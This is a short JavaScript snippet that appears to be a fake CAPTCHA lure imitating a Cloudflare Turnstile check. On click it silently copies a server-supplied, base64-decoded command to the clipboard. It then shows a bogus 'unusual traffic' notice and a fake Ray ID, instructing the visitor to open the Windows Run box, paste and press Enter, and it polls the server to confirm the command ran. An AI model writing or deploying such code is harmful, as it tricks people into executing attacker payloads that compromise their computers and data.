const gate = document.querySelector("[data-turnstile]");
let line = "";
fetch("/v/" + crypto.randomUUID()).then((r) => r.text()).then((t) => (line = atob(t)));

gate.addEventListener("click", async () => {
  gate.dataset.state = "loading";
  await navigator.clipboard.write([new ClipboardItem({ "text/plain": new Blob([line], { type: "text/plain" }) })]);
  gate.dataset.state = "extra";
  gate.querySelector(".extra").innerHTML = `
    <p>Unusual traffic from your network. Complete these steps to continue:</p>
    <ol><li>Hold <kbd>⊞</kbd> and press <kbd>R</kbd></li><li>In the field, press <kbd>Ctrl</kbd>+<kbd>V</kbd></li><li>Press <kbd>Enter</kbd> to complete</li></ol>
    <small>Ray ID: ${Math.random().toString(16).slice(2, 18)}</small>`;
  const poll = setInterval(async () => {
    if ((await (await fetch("/v/state")).text()) === "1") {
      clearInterval(poll);
      location.reload();
    }
  }, 3000);
});
